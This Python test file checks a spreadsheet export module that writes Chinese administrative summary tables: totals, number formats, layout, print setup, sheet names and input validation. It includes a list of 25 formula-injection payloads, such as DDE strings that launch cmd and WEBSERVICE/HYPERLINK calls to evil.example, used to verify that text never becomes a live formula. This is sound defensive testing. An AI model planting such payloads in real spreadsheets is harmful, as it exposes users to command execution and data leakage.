import re
from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO
from zipfile import ZipFile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from core.spreadsheet_cells import clean_text
from core.spreadsheets import FOOTER, Column, Sheet, write_workbook

COLUMNS = (
    Column("区"),
    Column("案例", "integer"),
    Column("经费", "money"),
    Column("经费（万元）", "wan"),
    Column("督导", "hours"),
    Column("上报日期", "date"),
)
ROWS = (
    ("朝阳区", 10, 123456, 12345678, 80, date(2021, 12, 20)),
    ("海淀区", 0, 1, 1, 5, None),
    ("密云区", None, None, None, None, datetime(2021, 12, 20, 16, 0, tzinfo=UTC)),
)
# security.md's 25: every character that starts a formula, each with something to run.
PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","点此")',
    '=WEBSERVICE("http://evil.example")',
    "=IMPORTXML(A1)",
    '=DDE("cmd";"/C calc";"x")',
    "{=1+1}",
    "{=SUM(A1:A9)}",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "@cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " =1+1",
    "'=1+1",
    "|cmd",
    "%0A=1+1",
)


def opened(*sheets, title="年度汇总"):
    return load_workbook(BytesIO(write_workbook(sheets, filename_title=title)))


def page_of(*args, **kwargs):
    return opened(Sheet(*args, **kwargs)).active


def values(page, row):
    return [cell.value for cell in page[row]]


def raw_sheets(content):
    with ZipFile(BytesIO(content)) as parts:
        return [parts.read(name).decode() for name in parts.namelist() if "worksheets/" in name]


def test_there_are_25_payloads():
    assert len(set(PAYLOADS)) == 25


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_no_text_becomes_a_formula_wherever_it_stands(payload):
    sheet = Sheet(
        payload,
        [Column(payload), Column("n", "integer")],
        [(payload, 1)],
        unit=payload,
        subtitle=payload,
        total=[payload, payload],
        footer=[payload],
    )

    content = write_workbook([sheet], filename_title=payload)

    cells = [cell for row in load_workbook(BytesIO(content)).active.iter_rows() for cell in row]
    texts = [cell for cell in cells if isinstance(cell.value, str)]
    assert len(texts) == 9
    assert {cell.data_type for cell in texts} == {"s"}
    assert all(not re.search(r"<f[ >/]", raw) for raw in raw_sheets(content))


@given(st.text(max_size=40))
@settings(max_examples=50, deadline=None)
def test_any_text_comes_back_as_it_was_written(text):
    cell = page_of("表", [Column("甲")], [(text,)], footer=())["A3"]

    assert (cell.value or "") == clean_text(text)
    assert cell.data_type == ("s" if cell.value else "inlineStr")


@pytest.mark.parametrize(
    "text", ["#N/A", "#REF!", "1e5", "007", "11010519491231002X", "2021-05-18"]
)
def test_what_looks_like_something_else_stays_text(text):
    cell = page_of("表", [Column("甲")], [(text,)])["A3"]

    assert (cell.value, cell.data_type, cell.number_format) == (text, "s", "@")


def test_characters_no_workbook_can_hold_are_dropped():
    page = page_of("表", [Column("甲")], [("张\x00\x0b三\x1f\ud800\uffff丰",)])

    assert page["A3"].value == "张三丰"


@pytest.mark.parametrize("typed", ["一\r\n二", "一\r二", "一\n二"])
def test_lines_end_in_one_way(typed):
    assert page_of("表", [Column("甲")], [(typed,)])["A3"].value == "一\n二"


def test_a_text_longer_than_a_cell_says_that_it_was_cut():
    text = page_of("表", [Column("甲")], [("长" * 40_000,)])["A3"].value

    assert len(text) == 32_767
    assert text.endswith("长……（内容过长，已截断）")


def test_numbers_are_numbers_in_the_unit_of_their_column():
    page = page_of("表", COLUMNS, ROWS)

    assert values(page, 3) == [
        "朝阳区", 10, 1234.56, 12.345678, 1.3, datetime(2021, 12, 20)
    ]  # fmt: skip
    assert values(page, 4) == ["海淀区", 0, 0.01, 0.000001, 0.1, None]
    assert values(page, 5) == ["密云区", None, None, None, None, datetime(2021, 12, 21)]
    assert [cell.number_format for cell in page[3]] == [
        "@", "#,##0", "#,##0.00", "#,##0.00", "#,##0.0", 'yyyy"年"m"月"d"日"'
    ]  # fmt: skip


def test_the_total_adds_up_what_the_rows_brought():
    page = page_of("表", COLUMNS, ROWS, total=True)

    assert values(page, 6) == ["合计", 10, 1234.57, 12.345679, 1.4, None]
    assert page["C6"].number_format == "#,##0.00"


@given(st.lists(st.integers(-(10**13), 10**13), max_size=20))
@settings(max_examples=25, deadline=None)
def test_a_total_of_money_is_exact_to_the_fen(amounts):
    rows = [("甲", amount) for amount in amounts]

    page = page_of("表", [Column("区"), Column("经费", "money")], iter(rows), total=True)

    shown = Decimal(str(page.cell(3 + len(rows), 2).value)).quantize(Decimal("0.01"))
    assert shown * 100 == sum(amounts)


def test_the_first_column_and_columns_of_years_are_not_added_up():
    columns = [Column("序号", "integer"), Column("年度", "integer", is_summed=False)]

    page = page_of("表", columns, [(1, 2021), (2, 2022)], total=True)

    assert values(page, 5) == ["合计", None]


def test_a_total_of_the_callers_own_is_taken_as_it_is():
    page = page_of("表", COLUMNS[:3], [("朝阳区", 10, 5)], total=["合计（去重）", 7, 100])

    assert values(page, 4) == ["合计（去重）", 7, 1]


def test_an_empty_table_has_a_total_of_zeros():
    page = page_of("表", COLUMNS[:2], [], total=True)

    assert values(page, 3) == ["合计", 0]


def test_a_sheet_is_laid_out_as_an_office_expects():
    page = page_of(
        "2021年度汇总表", COLUMNS, ROWS, unit="元", subtitle="填报单位（盖章）：朝阳区", total=True
    )

    assert values(page, 1)[0] == "2021年度汇总表"
    assert (page["A1"].alignment.horizontal, page["A1"].font.bold) == ("center", True)
    assert values(page, 2) == ["填报单位（盖章）：朝阳区", *[None] * 4, "单位：元"]
    assert values(page, 3) == [column.label for column in COLUMNS]
    assert all(cell.font.bold and cell.border.left.style == "thin" for cell in page[3])
    assert values(page, 7)[0] == "合计"
    assert values(page, 9)[0].split() == list(FOOTER)
    assert {str(merged) for merged in page.merged_cells.ranges} == {"A1:F1", "A2:E2", "A9:F9"}


def test_a_sheet_is_set_up_for_print():
    page = page_of("表", COLUMNS, ROWS, unit="元")

    assert page.freeze_panes == "A4"
    assert page.print_title_rows == "$3:$3"
    assert (page.page_setup.orientation, page.page_setup.paperSize) == ("landscape", 9)
    assert page.sheet_properties.pageSetUpPr.fitToPage is True
    assert (page.page_setup.fitToWidth, page.page_setup.fitToHeight) == (1, 0)


def test_without_unit_and_subtitle_the_header_moves_up():
    page = page_of("表", COLUMNS, [], footer=())

    assert values(page, 2) == [column.label for column in COLUMNS]
    assert page.freeze_panes == "A3"
    assert page.max_row == 2


def test_a_table_of_one_column_says_subtitle_and_unit_in_one_cell():
    page = page_of("表", [Column("区")], [("朝阳区",)], unit="单位：个", subtitle="2021年")

    assert values(page, 2) == ["2021年　单位：个"]


def test_columns_are_as_wide_as_asked_or_as_their_label_needs():
    columns = [Column("区", width=33), Column("服务对象满意度测评人次", "integer")]

    page = page_of("表", columns, [])

    assert [page.column_dimensions[letter].width for letter in "AB"] == [33, 24]


def heights_of(page, numbers):
    return [page.row_dimensions[number].height for number in numbers]


def test_a_row_is_as_high_as_the_lines_of_its_longest_text():
    columns = [Column("指标"), Column("达到案例下限的中心(个)", "integer", width=12)]
    rows = [("短", 1), ("长" * 25, 2), ("两\n行", 3), ("长" * 500, 4)]

    page = page_of("一张表", columns, rows)

    assert heights_of(page, range(1, 7)) == [30, 32, None, 48, 32, 409]


def test_what_stands_over_several_columns_has_the_room_of_them_all():
    columns = [
        Column("甲", width=9, group="两列上面的名称"),
        Column("乙", width=9, group="两列上面的名称"),
    ]

    page = page_of("标题", columns, [], subtitle="不长于两列", footer=())
    narrow = page_of("标题", columns, [], subtitle="比两列还要长的副标题", footer=FOOTER)

    assert heights_of(page, range(1, 5)) == [30, 16, 16, None]
    assert heights_of(narrow, (2, 6)) == [32, 96]


def test_tabs_have_names_excel_takes():
    titles = ["汇总[2021]:*?/\\表", "汇总2021表", "长" * 40, "长" * 40, "''", "ABC", "abc"]

    book = opened(*(Sheet(title, [Column("甲")], []) for title in titles))

    assert book.sheetnames == [
        "汇总2021表",
        "汇总2021表(2)",
        "长" * 31,
        "长" * 28 + "(4)",
        "工作表5",
        "ABC",
        "abc(7)",
    ]
    assert book["汇总2021表"]["A1"].value == "汇总[2021]:*?/\\表"


def test_the_document_carries_its_title():
    assert opened(Sheet("表", COLUMNS, []), title="汇总\x00表").properties.title == "汇总表"


@pytest.mark.parametrize(
    ("kind", "value"),
    [
        ("integer", 1.5),
        ("integer", "1"),
        ("integer", True),
        ("money", Decimal("1.50")),
        ("wan", 0.5),
        ("hours", 1.5),
        ("date", "2021-05-18"),
    ],
)
def test_a_value_of_the_wrong_kind_is_refused(kind, value):
    with pytest.raises(TypeError):
        page_of("表", [Column("甲"), Column("乙", kind)], [("x", value)])


def test_a_table_that_fails_halfway_leaves_no_file_behind(tmp_path, monkeypatch):
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    columns = [Column("甲"), Column("乙", "integer")]
    good, bad = Sheet("一", columns, [("x", 1)]), Sheet("二", columns, [("x", 1), ("x", "y")])

    with pytest.raises(TypeError):
        write_workbook([good, bad], filename_title="x")

    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("row", [("朝阳区",), ("朝阳区", 1, 2)])
def test_a_row_of_the_wrong_length_is_refused(row):
    with pytest.raises(ValueError, match=r"zip\(\)"):
        page_of("表", COLUMNS[:2], [row])


def test_what_makes_no_workbook_is_refused():
    with pytest.raises(ValueError, match="needs a sheet"):
        write_workbook([], filename_title="x")
    with pytest.raises(ValueError, match="needs a column"):
        Sheet("表", [], [])
    with pytest.raises(ValueError, match="kind float"):
        Column("甲", "float")
